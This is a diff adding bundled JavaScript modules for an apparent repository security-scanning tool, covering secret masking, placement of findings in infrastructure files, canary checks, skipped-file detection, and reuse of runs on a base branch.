+            return undefined;
+        spans.push(span);
+        from = span.end;
+    }
+    return spans.length === 0 ? undefined : spans;
+}
+/** A secret whose hidden part begins at `hidden`, behind a plain piece at `at`, and after which the hint goes on with `next`. */
+function spanBetween(line, at, hidden, next) {
+    const isWholeLine = at === 0;
+    const known = next === ''
+        ? isWholeLine
+            ? line.length
+            : -1
+        : line.endsWith(next)
+            ? line.length - next.length
+            : line.indexOf(next, hidden + 1);
+    if (known > hidden)
+        return { start: startOfSecret(line, at, hidden, known), end: known };
+    const start = hidden - at <= mostShown ? at : backToDelimiter(line, at, hidden);
+    const end = secret_span_endOfValue(line, start, hidden);
+    return end > start ? { start, end } : undefined;
+}
+/** Checkov shows a quarter of a secret, at most six characters. */
+const mostShown = 6;
+const delimiter = /[\s"'`=:,;()[\]{}<>]/;
+/** Knowing the length of the hidden part, there is one number of shown characters that fits, or two: then the one after a delimiter, else the larger. */
+function startOfSecret(line, at, hidden, end) {
+    const fitting = [6, 5, 4, 3, 2, 1].filter((shown) => shown === Math.min(Math.floor((end - hidden + shown) / 4), mostShown));
+    const starts = fitting.map((shown) => hidden - shown).filter((start) => start >= at);
+    return starts.find((start) => isBoundary(line, start)) ?? starts[0] ?? backToDelimiter(line, at, hidden);
+}
+const isBoundary = (line, start) => !/[\s"'`]/.test(line[start] ?? '') && (start === 0 || delimiter.test(line[start - 1] ?? ''));
+function backToDelimiter(line, at, hidden) {
+    let start = hidden;
+    while (start > at && hidden - start < mostShown && !delimiter.test(line[start - 1] ?? ' '))
+        start -= 1;
+    return start;
+}
+/** To the closing quote if the value began after a quote, else to white space, comma or semicolon. */
+function secret_span_endOfValue(line, start, hidden) {
+    const quote = line[start - 1] ?? '';
+    const closing = /["'`]/.test(quote) ? line.indexOf(quote, hidden) : -1;
+    if (closing >= 0)
+        return closing;
+    const end = line.slice(hidden).search(/[\s,;]/);
+    return end < 0 ? line.length : hidden + end;
+}
+/** All after the first `=` or `:`, without blanks and quotes around it; the whole line where there is neither, or where base64 ends in `=`. */
+function valueSpan(line) {
+    const whole = { start: line.length - line.trimStart().length, end: line.trimEnd().length };
+    const sign = line.search(/[=:]/);
+    const raw = line.slice(sign + 1);
+    const value = raw.trim().replace(/[,;]$/, '');
+    if (/^=*$/.test(value))
+        return whole;
+    const inner = /^(["'])(.+)\1$/.exec(value)?.[2];
+    const start = sign + 1 + raw.length - raw.trimStart().length + (inner === undefined ? 0 : 1);
+    return { start, end: start + (inner ?? value).length };
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/secrets.js
+
+
+
+/** Finds every secret of the run again in the files, so that it can be masked everywhere and is told once however many tools saw it. */
+function findSecrets(all, sources) {
+    const sightings = all.filter((reported) => reported.kind === 'secret' && reported.startLine !== undefined);
+    const byPath = groupBy(sightings, (reported) => reported.path);
+    const found = [...byPath].map(([path, group]) => findInFile(sources.file(path)?.lines ?? [], group));
+    const spans = new Map(found.flatMap((file) => [...file.spans]));
+    return { mask: createMask(found.flatMap((file) => file.secrets)), spanOf: (reported) => spans.get(reported) };
+}
+function findInFile(lines, group) {
+    const sightings = group.flatMap((reported) => sightingOf(lines, reported) ?? []);
+    const byLine = [...groupBy(sightings, ({ line }) => String(line)).values()].sort(([a], [b]) => (a?.line ?? 0) - (b?.line ?? 0));
+    const spans = new Map();
+    const counts = new Map();
+    for (const same of byLine) {
+        const united = unite(same.flatMap((sighting) => sighting.spans));
+        const starredLine = starLine(lines[(same[0]?.line ?? 1) - 1] ?? '', united).trim();
+        const before = counts.get(starredLine) ?? 0;
+        counts.set(starredLine, before + united.length);
+        for (const sighting of same) {
+            const index = united.findIndex((span) => sighting.spans.some((own) => own.start < span.end && span.start < own.end));
+            const span = united[index];
+            if (span !== undefined)
+                spans.set(sighting.reported, { region: regionOf(sighting, span, lines), starredLine, ordinal: before + index });
+        }
+    }
+    return { secrets: sightings.flatMap((sighting) => secrets_textsOf(lines, sighting)), spans };
+}
+function sightingOf(lines, reported) {
+    const line = reported.startLine ?? 0;
+    const text = lines[line - 1];
+    if (text === undefined)
+        return undefined;
+    const endLine = Math.min(reported.endLine ?? line, lines.length);
+    const spans = endLine > line && reported.secretHint === undefined
+        ? [{ start: 0, end: text.length }]
+        : findSecretSpans(text, reported.secretHint);
+    return { reported, line, endLine, spans };
+}
+/** Overlapping spans become one; sorted by start. */
+function unite(spans) {
+    const result = [];
+    for (const span of [...spans].sort((a, b) => a.start - b.start || a.end - b.end)) {
+        const last = result.at(-1);
+        if (last !== undefined && span.start < last.end)
+            result.splice(-1, 1, { start: last.start, end: Math.max(last.end, span.end) });
+        else
+            result.push(span);
+    }
+    return result;
+}
+const regionOf = ({ line, endLine }, span, lines) => endLine > line
+    ? { startLine: line, endLine, startColumn: 1, endColumn: (lines[endLine - 1]?.length ?? 0) + 1 }
+    : { startLine: line, endLine: line, startColumn: span.start + 1, endColumn: span.end + 1 };
+/** The secret itself, to be masked: its span, and each whole line of a secret that runs over several. */
+function secrets_textsOf(lines, { line, endLine, spans }) {
+    const text = lines[line - 1] ?? '';
+    const own = spans.map((span) => text.slice(span.start, span.end));
+    return endLine > line ? [...own, ...lines.slice(line - 1, endLine).map((part) => part.trim())] : own;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/place-findings.js
+
+
+
+
+
+
+/**
+ * Turns what the tools said into findings: reads the files, which are the authority for subject, block, columns and snippet, and
+ * masks every secret of the whole run in every text that leaves (DESIGN 3, "locate"). One finding for each report, none lost.
+ */
+async function placeFindings(runs, tree) {
+    const { sources, skips } = tree;
+    const all = runs.flatMap(({ reported }) => reported);
+    const terraform = all.some(({ modulePath }) => modulePath !== undefined) ? tree.terraform : [];
+    await sources.read([...all.map(({ path }) => path), ...terraform]);
+    const around = { sources, calls: sources.callsIn(terraform), secrets: findSecrets(all, sources), skips };
+    return {
+        runs: runs.map(({ scanner, tool, reported }) => ({
+            scanner,
+            findings: reported.map((report) => placeOne(report, tool, around)).sort(compareFindings),
+        })),
+        mask: around.secrets.mask,
+    };
+}
+function placeOne(said, tool, { sources, calls, secrets, skips }) {
+    const file = sources.file(said.path);
+    const reported = file === undefined ? said : withRealLines(said, file, sources);
+    const found = file === undefined ? undefined : find(reported, file, sources);
+    const secret = reported.kind === 'secret' ? secrets.spanOf(said) : undefined;
+    const subject = subjectOf(reported, found, calls, secrets.mask);
+    const identity = identify({
+        kind: reported.kind,
+        format: reported.format,
+        ruleId: reported.ruleId,
+        path: reported.path,
+        subject,
+        ...(reported.concept === undefined ? {} : { concept: reported.concept }),
+        ...(reported.advisory === undefined ? {} : { advisory: reported.advisory }),
+        ...(secret === undefined ? {} : { secret: { line: secret.starredLine, ordinal: secret.ordinal } }),
+    });
+    const skip = skips.skipFor(reported, tool, found?.spans ?? [], file?.lines ?? []);
+    return {
+        kind: reported.kind,
+        rule: ruleOf(reported, secrets.mask),
+        severity: reported.severity ?? 'medium',
+        severitySource: reported.severitySource,
+        message: secrets.mask(reported.message),
+        place: place_findings_placeOf(reported, file, found, secret, secrets.mask),
+        subject,
+        ...(reported.advisory === undefined ? {} : { advisory: reported.advisory }),
+        identity,
+        sources: [sourceOf(reported, tool, skip, secrets.mask)],
+    };
+}
+function withRealLines(reported, file, sources) {
+    if (reported.linesOmitSeparators !== true || reported.startLine === undefined)
+        return reported;
+    const startLine = sources.lineCounted(file, reported.startLine);
+    const endLine = sources.lineCounted(file, reported.endLine ?? reported.startLine);
+    return { ...reported, startLine, endLine };
+}
+const sourceOf = (reported, tool, skip, mask) => ({
+    tool,
+    ruleId: reported.ruleId,
+    ...(reported.severity === undefined ? {} : { severity: reported.severity }),
+    severitySource: reported.severitySource,
+    ...(skip === undefined ? {} : { skip: skip.reason === undefined ? skip : { ...skip, reason: mask(skip.reason) } }),
+});
+const ruleOf = (reported, mask) => ({
+    id: reported.concept ?? reported.ruleId,
+    ...(reported.concept === undefined ? {} : { concept: reported.concept }),
+    title: mask(reported.title),
+    ...(reported.help === undefined ? {} : { help: mask(reported.help) }),
+    ...(reported.url === undefined ? {} : { url: reported.url }),
+    tags: reported.tags,
+});
+const isAboutBlocks = (reported) => reported.kind === 'misconfiguration';
+function find(reported, file, sources) {
+    if (!isAboutBlocks(reported))
+        return undefined;
+    const outline = sources.outline(file, reported.format);
+    if (reported.startLine === undefined) {
+        const named = reported.resourceHint === undefined ? undefined : findByAddress(outline, reported.resourceHint);
+        return named ?? (reported.format === 'helm' ? findOnly(outline) : undefined);
+    }
+    return findSpan(outline, reported.startLine, reported.endLine ?? reported.startLine);
+}
+/** Where an address is unique: in the chart, in the folder of manifests, else in the file. */
+function stackFor(format, path) {
+    if (format === 'helm')
+        return chartOf(path);
+    return format === 'kubernetes' || format === 'kustomize' ? terraform_stacks_folderOf(path) : path;
+}
+/** `charts/shop` of `charts/shop/templates/web/deployment.yaml`: templates move within a chart without being others. */
+function chartOf(path) {
+    const end = `/${path}`.lastIndexOf('/templates/');
+    return end < 0 ? terraform_stacks_folderOf(path) : path.slice(0, Math.max(0, end - 1)) || '.';
+}
+function subjectOf(reported, found, stackCalls, mask) {
+    const { package: dependency, license } = reported;
+    if (!isAboutBlocks(reported)) {
+        return {
+            ...(dependency === undefined ? {} : { package: packageOf(dependency) }),
+            ...(license === undefined ? {} : { license }),
+        };
+    }
+    const { format, path } = reported;
+    if (found?.subject === undefined)
+        return { resource: { format, type: format, stack: path, address: '' } };
+    const { type, part } = found.subject;
+    const [address, stack] = isTerraform(format)
+        ? terraformAddress(reported, found.subject.address, stackCalls)
+        : [found.subject.address, stackFor(format, path)];
+    const resource = {
+        format,
+        type,
+        stack,
+        address: mask(address),
+        ...(part === undefined ? {} : { part: mask(part) }),
+    };
+    return { resource };
+}
+const packageOf = ({ path: _path, ...dependency }) => dependency;
+const isTerraform = (format) => format === 'terraform';
+function terraformAddress(reported, address, stackCalls) {
+    const outermost = reported.calls.at(-1)?.path;
+    const full = `${reported.modulePath === undefined ? '' : `${reported.modulePath}.`}${address}${reported.instanceKey ?? ''}`;
+    return [full, stackOf(reported.path, reported.modulePath, outermost, stackCalls)];
+}
+function place_findings_placeOf(reported, file, found, secret, mask) {
+    const related = reported.calls.map((call) => ({
+        path: call.path,
+        ...(call.startLine === undefined
+            ? {}
+            : { region: { startLine: call.startLine, endLine: call.endLine ?? call.startLine } }),
+        label: 'module call',
+    }));
+    const region = place_findings_regionOf(reported, file, found, secret);
+    if (file === undefined || region === undefined)
+        return { path: reported.path, ...(region === undefined ? {} : { region }), related };
+    const block = found === undefined ? undefined : blockOf(file, found, mask);
+    return {
+        path: reported.path,
+        region,
+        snippet: snippetOf(file.lines, region, mask),
+        ...(block === undefined ? {} : { block }),
+        related,
+    };
+}
+function place_findings_regionOf(reported, file, found, secret) {
+    if (secret !== undefined)
+        return secret.region;
+    const lines = reported.startLine !== undefined
+        ? { startLine: reported.startLine, endLine: reported.endLine ?? reported.startLine }
+        : found?.block;
+    if (lines === undefined)
+        return undefined;
+    if (file === undefined)
+        return { startLine: lines.startLine, endLine: lines.endLine };
+    const { startLine, endLine } = clipRegion(lines, file.lines.length);
+    return narrowRegion(file.lines, startLine, endLine);
+}
+const blockOf = (file, found, mask) => ({
+    label: mask(found.block.label),
+    startLine: found.block.startLine,
+    endLine: found.block.endLine,
+    digest: region_digestOf(file.lines, found.block.startLine, found.block.endLine),
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/find-unlisted.js
+
+
+
+/** Larger documents are not read again only to say why a tool skipped them. */
+const find_unlisted_readableBytes = 4 * 1024 * 1024;
+/**
+ * Files that a tool was given and is not known to have read. Some it skipped in silence, with exit 0, as its list of files tells. Where
+ * it keeps no list, YAML and JSON that do not parse are what it skips in silence: these are read here once more, unless some tool read
+ * them (`understood`).
+ */
+async function findUnlisted({ scanner, formats, reading }, understood, stage, files) {
+    const listed = new Set(reading.parsed.flatMap((parsed) => [...parsed.listed]));
+    const gaps = [];
+    for (const file of stage.files) {
+        if (listed.has(file.path))
+            continue;
+        const gap = await missed(scanner, formats, file, (unread) => understood.has(unread.path) ? undefined : mistakeIn(unread, stage.root, files));
+        if (gap !== undefined)
+            gaps.push({ path: file.path, tool: scanner.tool, ...gap });
+    }
+    return [...gaps, ...find_unlisted_leftOut(scanner, formats, stage)].sort((a, b) => order_compareText(a.path, b.path));
+}
+/**
+ * Files that some tool is known to have understood: it lists them, or found something in them. A secret proves nothing: those are found
+ * line by line, whether the rest makes sense or not.
+ */
+function understoodBy(runs) {
+    const parsed = runs.flatMap(({ reading }) => reading.parsed);
+    const proofs = parsed.flatMap(({ findings }) => findings.filter(({ kind }) => kind !== 'secret'));
+    return new Set([...parsed.flatMap(({ listed }) => [...listed]), ...proofs.map(({ path }) => path)]);
+}
+async function missed(scanner, formats, file, mistake) {
+    const own = file.formats.filter((format) => formats.includes(format) && !isLeftOut(scanner, format, file));
+    const isExpected = own.some((format) => scanner.listsByFile.includes(format));
+    if (isExpected) {
+        if (file.formats.includes('helm'))
+            return notRendered;
+        return (await mistake(file)) ?? { reason: 'not-read' };
+    }
+    const isTakenApart = own.some((format) => format !== secretsFormat);
+    return isTakenApart && !file.formats.includes('helm') ? mistake(file) : undefined;
+}
+/** A template is no YAML until the chart is rendered, and what a condition of the chart leaves out is not there to be read. */
+const notRendered = {
+    reason: 'not-read',
+    detail: "not part of the chart with the chart's own values",
+};
+/** What the tool skips by rules of its own (names, folders, sizes), which nothing in its report tells. */
+const find_unlisted_leftOut = (scanner, formats, stage) => formats.flatMap((format) => stage.files
+    .filter((file) => isLeftOut(scanner, format, file))
+    .map(({ path }) => ({ path, reason: 'left-out', tool: scanner.tool, detail: format })));
+/** True for a file of this format that the tool does not look at, whatever its run says. */
+const isLeftOut = (scanner, format, file) => file.formats.includes(format) && scanner.leavesOut?.(format, file.path, file.size) === true;
+async function mistakeIn({ path, size }, root, files) {
+    if (size > find_unlisted_readableBytes || !/\.(?:ya?ml|json|template)$/.test(path))
+        return undefined;
+    const text = await files.readText(`${root}/${path}`).catch(() => undefined);
+    const mistake = text === undefined ? undefined : readDocuments(text).problems.find((problem) => problem.code === 'syntax');
+    return mistake === undefined ? undefined : { reason: 'not-parsed', line: mistake.line };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/assemble-evidence.js
+
+
+
+
+
+
+/** The findings proper: canaries are never among them. */
+const reportedOf = (run, stage) => run.reading.parsed.flatMap((parsed) => parsed.findings.filter((reported) => !isCanary(reported.path, stage)));
+const isCanary = (path, stage) => path.startsWith(`${stage.canaryFolder}/`);
+/** A canary is seen when its own rule fired on a file of its own folder. */
+function canariesOf(run, stage) {
+    const all = run.reading.parsed
+        .flatMap((parsed) => parsed.findings)
+        .filter((reported) => isCanary(reported.path, stage));
+    return run.scanner.canaries
+        .filter((canary) => run.formats.includes(canary.format))
+        .map(({ format, expects }) => {
+        const folder = `${canaryPath(stage.canaryFolder, run.scanner.name, format)}/`;
+        return {
+            format,
+            seen: all.some((reported) => reported.path.startsWith(folder) &&
+                (reported.ruleId === expects || reported.advisory?.ids.includes(expects) === true)),
+        };
+    })
+        .sort((a, b) => order_compareText(a.format, b.format));
+}
+function examinedOf(run, stage, canaries, gaps) {
+    const unread = new Set(gaps.filter(keepsUnread).map((gap) => gap.path));
+    const read = stage.files.filter((file) => !unread.has(file.path));
+    const trusted = run.formats.filter((format) => !run.reading.unread.includes(format) && !canaries.some((canary) => canary.format === format && !canary.seen));
+    const complete = run.reading.parsed.length > 0;
+    return countRead(run, read).map(({ format, files }) => ({
+        format,
+        files: complete && trusted.includes(format) ? files : 0,
+    }));
+}
+const countRead = (run, read) => run.formats.flatMap((format) => countOf([format], read.filter((file) => !isLeftOut(run.scanner, format, file))));
+/**
+ * Everything one scanner brought, with proof: what it was given, what it is known to have read, and what it missed by name. Its own
+ * words may hold whatever the files hold: they are masked here, all of them.
+ */
+function assembleEvidence(run, stage, findings, { unlisted, changed, mask }) {
+    const canaries = canariesOf(run, stage);
+    const own = run.reading.parsed.flatMap((parsed) => parsed.gaps).filter((gap) => !isCanary(gap.path, stage));
+    const gaps = dedupe([...own, ...run.reading.gaps, ...unlisted].map((gap) => ({ ...masked(gap, mask), tool: run.scanner.tool })));
+    const problems = [
+        ...run.reading.problems.map((problem) => maskedProblem(problem, mask)),
+        ...changed.slice(0, 1).map((path) => inputChanged(path, changed.length)),
+    ];
+    return {
+        scanner: run.scanner.name,
+        tool: run.tool,
+        target: { type: 'tree', name: '.' },
+        inputs: {
+            ...inputsOf(run, stage),
+            data: run.data,
+            ...(run.rules === undefined ? {} : { rules: run.rules }),
+        },
+        outcome: problems.length === 0 ? 'complete' : run.reading.parsed.length === 0 ? 'failed' : 'partial',
+        problems,
+        planned: countOf(run.formats, stage.files),
+        examined: examinedOf(run, stage, canaries, gaps),
+        gaps,
+        canaries,
+        findings,
+    };
+}
+const masked = (gap, mask) => (gap.detail === undefined ? gap : { ...gap, detail: mask(gap.detail) });
+const maskedProblem = ({ code, sentence, hint }, mask) => ({
+    code,
+    sentence: mask(sentence),
+    ...(hint === undefined ? {} : { hint: mask(hint) }),
+});
+/** Sorted, each once; that a file does not parse says more than that it was not read, and the line more than none. */
+function dedupe(gaps) {
+    const unparsed = gaps.filter((gap) => gap.reason === 'not-parsed');
+    const [broken, lined] = [unparsed, unparsed.filter((gap) => gap.line !== undefined)].map((some) => new Set(some.map(({ path }) => path)));
+    const kept = gaps.filter(({ path, reason, line }) => !(reason === 'not-read' && broken?.has(path)) &&
+        !(reason === 'not-parsed' && line === undefined && lined?.has(path)));
+    const keyOf = (gap) => [gap.path, gap.reason, String(gap.line ?? 0).padStart(9, '0'), gap.detail ?? ''].join('\u001f');
+    return [...new Map(kept.map((gap) => [keyOf(gap), gap]))].sort(([a], [b]) => order_compareText(a, b)).map(([, gap]) => gap);
+}
+const inputChanged = (path, count) => ({
+    code: 'INPUT_CHANGED',
+    sentence: `${path}${count > 1 ? ` and ${count - 1} more` : ''} changed while it was scanned, so the result fits no one state of the tree.`,
+    hint: 'Leave the files alone while the scan runs, and run again.',
+});
+/** Of what decides a result beside the tool and its data: the files that it may open, and how it is started. */
+const inputsOf = (run, { files }) => ({
+    tree: digestTree(files.filter(({ path }) => run.scanner.mayOpen(path))),
+    options: digestOptions(run),
+});
+const digestOptions = (run) => {
+    const command = run.scanner.command({
+        root: '/root',
+        formats: [...run.formats].sort(order_compareText),
+        scratch: '/scratch',
+        report: '/report',
+        database: '/database',
+        ...(run.rules === undefined ? {} : { checks: '/checks' }),
+    });
+    return `sha256:${sha256Hex(JSON.stringify([command.args, Object.entries(command.env).sort(([a], [b]) => order_compareText(a, b)), run.limits]))}`;
+};
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/heard-skips.js
+
+
+/** The files with only those comments that speak to a tool which opens the file: elsewhere, in documentation, they are examples. */
+const heardSkips = (files) => files.map((file) => file.skips.length === 0 ? file : { ...file, skips: file.skips.filter(({ tool }) => opens(tool, file)) });
+const opens = (tool, file) => tools_scanners.some((scanner) => scanner.tool === tool &&
+    scanner.skips !== undefined &&
+    scanner.reads.some((format) => file.formats.includes(format) && !isLeftOut(scanner, format, file)));
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/locate-runs.js
+
+
+
+
+
+
+
+/** Places what the scanners said of one tree in its files, and writes down what each of them has seen. */
+async function locateRuns(runs, { inventory, stage, sources, changed }, { files, clock }) {
+    const neutralised = new Set(allSkipRules.filter((rule) => rule.neutralise).map((rule) => rule.tool));
+    const skips = createSkips(heardSkips(inventory.files), neutralised, day_dayOf(clock));
+    const terraform = inventory.files.filter((file) => file.formats.includes('terraform')).map((file) => file.path);
+    const reports = runs.map((run) => ({
+        scanner: run.scanner.name,
+        tool: run.scanner.tool,
+        reported: reportedOf(run, stage),
+    }));
+    const { runs: located, mask } = await placeFindings(reports, { sources, terraform, skips });
+    const understood = understoodBy(runs);
+    const evidence = await Promise.all(runs.map(async (run, index) => {
+        const unlisted = run.reading.parsed.length === 0 ? [] : await findUnlisted(run, understood, stage, files);
+        return assembleEvidence(run, stage, located[index]?.findings ?? [], { unlisted, changed, mask });
+    }));
+    return { evidence, skips: skips.all(mask) };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/stage-options.js
+
+/** What the planned scanners need of a stage: their canaries in it, their configuration out of it. */
+const stageOptions = (plan, root) => ({
+    root,
+    ownConfig: plan.flatMap(({ scanner }) => scanner.ownConfig),
+    skipRules: allSkipRules,
+    canaries: plan.flatMap(({ scanner, formats }) => scanner.canaries
+        .filter((canary) => formats.includes(canary.format))
+        .map(({ format, files }) => ({ scanner: scanner.name, format, files }))),
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/base/scanner-key.js
+/**
+ * Everything that decides what a scanner finds: its files, how it is started, the tool, its own and the repository's rules, and its data.
+ * Two runs of one key find the same. Where the tool was not brought there is no key.
+ */
+function scannerKey({ scanner, tool, inputs }) {
+    if (tool.digest === '')
+        return undefined;
+    const data = inputs.data.map(({ name, digest }) => [name, digest]);
+    return JSON.stringify([
+        scanner,
+        [tool.name, tool.version, tool.digest],
+        inputs.tree,
+        inputs.options,
+        inputs.rules ?? null,
+        data,
+    ]);
+}
+/** A run that may stand in for another of the same key: it is complete, and its canaries were seen. */
+const isProven = ({ outcome, problems, canaries }) => outcome === 'complete' && problems.length === 0 && canaries.every(({ seen }) => seen);
+
+;// CONCATENATED MODULE: ./build/js/flow/base/reuse.js
+
+
+
+/** The key of a run on a stage, before it runs. */
+function keyOnStage({ planned, supplied }, { stage, checks }) {
+    const { scanner, formats, deadlineMs, memoryBytes } = planned;
+    const rules = rulesFor(planned, checks);
+    const own = rules === undefined ? {} : { rules };
+    const inputs = inputsOf({ scanner, formats, limits: { deadlineMs, memoryBytes }, ...own }, stage);
+    return scannerKey({
+        scanner: scanner.name,
+        tool: supplied.tool,
+        inputs: { ...inputs, data: supplied.data, ...own },
+    });
+}
+/** What the same scanner found in the same files before, with the same rules and data. */
+function earlierRun(scan, context, earlier) {
+    if (earlier.length === 0)
+        return undefined;
+    const key = keyOnStage(scan, context);
+    const found = earlier.flatMap(({ runs }) => runs).find((run) => isProven(run) && scannerKey(run) === key);
+    return key === undefined || found === undefined ? undefined : { earlier: found };
+}
+/** Comments that reached a finding of a run that was taken over: its tool does not say so again. */
+function withEarlierSkips(skips, reused, earlier) {
+    const tools = new Set(reused.map(({ tool }) => tool.name));
+    const keyOf = ({ path, line, tool, rules }) => JSON.stringify([path, line, tool, rules]);
+    const matched = new Set(earlier.flatMap((each) => each.skips.filter((skip) => skip.matched && tools.has(skip.tool)).map(keyOf)));
+    return skips.map((skip) => (matched.has(keyOf(skip)) ? { ...skip, matched: true } : skip));
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/base/open-base.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Brings the base's files into the workspace and stages them by the same policy. Never rejects. */
+async function openBase(source, workspace, options, ports) {
+    const { name, commit } = source;
+    if (isProblem(commit))
+        return { name, tree: commit };
+    try {
+        const folder = `${workspace}/base`;
+        const trouble = await source.bring(folder);
+        return { name, commit, tree: trouble ?? (await openTree(folder, workspace, options, ports)) };
+    }
+    catch (error) {
+        return { name, commit, tree: { ...(0,errors/* toProblem */.H8)(error), code: 'BASE_MISSING' } };
+    }
+}
+async function openTree(root, workspace, { found, tools }, ports) {
+    const inventory = await takeInventory({ root, untracked: false, exclude: found.plan.exclude, skipRules: allSkipRules }, ports);
+    const could = planScans(inventory.formats).filter(({ scanner }) => tools === undefined || tools.includes(scanner.tool));
+    const able = could.filter(({ scanner }) => found.plan.tools.get(scanner.tool)?.off !== true);
+    const plan = able.length === 0 ? [] : limitPlan(able, found.plan, tools);
+    const stage = await buildStage(inventory, stageOptions(plan, `${workspace}/base-tree`), ports.files);
+    return { inventory, plan, stage, workspace: `${workspace}/base-runs` };
+}
+const isTree = (tree) => 'stage' in tree;
+/** Scans the base with one scanner, unless it would read what it reads in the head, or what was scanned before. */
+async function scanOnBase({ planned: head, supplied }, context, { name, tree }, earlier, ports) {
+    if (!isTree(tree))
+        return undefined;
+    const scanner = head.scanner.name;
+    const planned = tree.plan.find((one) => one.scanner.name === scanner);
+    if (planned === undefined)
+        return { type: 'known', run: { scanner, from: 'scan', findings: [] } };
+    const scan = { planned, supplied };
+    const onBase = { ...context, stage: tree.stage, workspace: tree.workspace, on: name };
+    const key = keyOnStage(scan, onBase);
+    if (key !== undefined && key === keyOnStage({ planned: head, supplied }, context))
+        return { type: 'known', run: { scanner, from: 'head', findings: [] } };
+    const known = earlierRun(scan, onBase, earlier);
+    if (known !== undefined)
+        return { type: 'known', run: { scanner, from: 'artifact', findings: known.earlier.findings } };
+    return { type: 'ran', run: await runPlanned(planned, supplied, onBase, ports) };
+}
+/** The base as the evidence holds it. A scanner that did not finish on it is told: what it missed there counts as introduced. */
+async function describeBase({ name, commit, tree }, results, head, ports) {
+    if (!isTree(tree))
+        return { runs: [], problems: [tree], touched: [] };
+    const ran = results.flatMap((result) => (result.type === 'ran' ? [result.run] : []));
+    const { stage, inventory } = tree;
+    const changed = await stage.changed();
+    const sources = openSources(inventory.root, ports.files);
+    const { evidence } = await locateRuns(ran, { inventory, stage, sources, changed }, ports);
+    const runs = [
+        ...results.flatMap((result) => (result.type === 'known' ? [result.run] : [])),
+        ...evidence.map(({ scanner, findings }) => ({ scanner, from: 'scan', findings })),
+    ].sort((a, b) => order_compareText(a.scanner, b.scanner));
+    return {
+        ...(commit === undefined ? {} : { commit }),
+        runs,
+        problems: evidence.flatMap((run) => open_base_incomplete(run, name)),
+        touched: otherThan(head, inventory),
+        gone: onlyIn(inventory, head),
+    };
+}
+function open_base_incomplete(run, name) {
+    const [trouble] = findTrouble({ head: [run] });
+    if (trouble === undefined)
+        return [];
+    return [
+        {
+            code: 'BASE_MISSING',
+            sentence: `On ${name}: ${trouble.sentence} What was missed there counts as introduced.`,
+            ...(trouble.hint === undefined ? {} : { hint: trouble.hint }),
+        },
+    ];
+}
+function onlyIn(one, other) {
+    const there = new Set([...other.files, ...other.gaps].map(({ path }) => path));
+    return one.files.flatMap(({ path }) => (there.has(path) ? [] : [path])).sort(order_compareText);
+}
+function otherThan(head, base) {
+    const before = new Map(base.files.map(({ path, digest }) => [path, digest]));
+    return head.files
+        .filter(({ path, digest }) => before.get(path) !== digest)
+        .map(({ path }) => path)
+        .sort(order_compareText);
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/run/hidden.js
+
+/** What holds credentials on a runner and on a laptop: the home folder, the checkout with its git configuration, the runner's own files. */
+const variables = ['HOME', 'GITHUB_WORKSPACE', 'RUNNER_TEMP'];
+/** Tools are given a stage; neither the folder it was made from nor these have anything for them. */
+const hiddenFrom = (root, environment) => sortedUnique([root, ...variables.map((name) => environment[name] ?? '')].filter((path) => path.startsWith('/')));
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/run-scans.js
+
+
+
+
+
+
+/**
+ * Runs the scanners side by side, each on the head and then on the base: a quick one is done with both while a slow one is at its first.
+ * Files that are already reported are read meanwhile.
+ */
+async function runScans(scans, context, { sources, base }, ports) {
+    let running = scans.length;
+    const results = await Promise.all(scans.map(async ({ planned, supplied }) => {
+        const scan = { planned, supplied: await supplied };
+        const head = await headOf(scan, context, (await base?.earlier) ?? [], ports);
+        running -= 1;
+        if (running > 0 && 'run' in head)
+            await prepareSources(sources, reportedOf(head.run, context.stage));
+        const onBase = base === undefined ? undefined : await scanOnBase(scan, context, await base.opened, await base.earlier, ports);
+        return { head, onBase };
+    }));
+    return { heads: results.map(({ head }) => head), bases: results.flatMap(({ onBase }) => onBase ?? []) };
+}
+async function headOf(scan, context, earlier, ports) {
+    const known = earlierRun(scan, context, earlier);
+    if (known === undefined)
+        return { run: await runPlanned(scan.planned, scan.supplied, context, ports) };
+    ports.progress.step(run_planned_labelOf(scan.planned, {}), 'finished', 'the same files as on the default branch');
+    return known;
+}
+/** The evidence of every scanner, in the order of the plan, and the comments that asked for silence. */
+async function locateHeads(heads, scene, earlier, ports) {
+    const located = await locateRuns(heads.flatMap((head) => ('run' in head ? [head.run] : [])), scene, ports);
+    const fresh = [...located.evidence];
+    const reused = heads.flatMap((head) => ('earlier' in head ? [head.earlier] : []));
+    return {
+        evidence: heads.flatMap((head) => ('earlier' in head ? [head.earlier] : fresh.splice(0, 1))),
+        skips: withEarlierSkips(located.skips, reused, earlier),
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/gather.js
+
+
+
+
+
+
+
+
+
+
+
+
+/** Stages the tree, runs the scanners that are planned, on the base too where there is one, and locates what they say. Where there is no place for a stage, each has failed for that reason. */
+async function gather(gathering, ports) {
+    const workspace = await ports.files.makeTemporary('gatehouse-').catch(errors/* toProblem */.H8);
+    if (typeof workspace !== 'string')
+        return withoutStage(workspace, gathering, ports);
+    try {
+        return await gatherIn(workspace, gathering, ports);
+    }
+    finally {
+        await ports.files.remove(workspace).catch((error) => {
+            ports.progress.step(`remove ${workspace}`, 'failed', (0,errors/* toProblem */.H8)(error).sentence);
+        });
+    }
+}
+async function gatherIn(workspace, gathering, ports) {
+    const { supplies, root, inventory, plan, found } = gathering;
+    const started = ports.clock.monotonicMs();
+    const scans = plan.map((planned) => ({ planned, supplied: supplyScan(planned, workspace, supplies) }));
+    const base = pendingBase(workspace, gathering, ports);
+    const stage = await buildStage(inventory, stageOptions(plan, `${workspace}/tree`), ports.files).catch(errors/* toProblem */.H8);
+    if (!isStage(stage)) {
+        await Promise.all([base?.opened, ...scans.map(({ supplied }) => supplied)]); // They may be writing into the workspace.
+        return withoutStage(stage, gathering, ports);
+    }
+    const staged = ports.clock.monotonicMs();
+    const sources = openSources(root, ports.files);
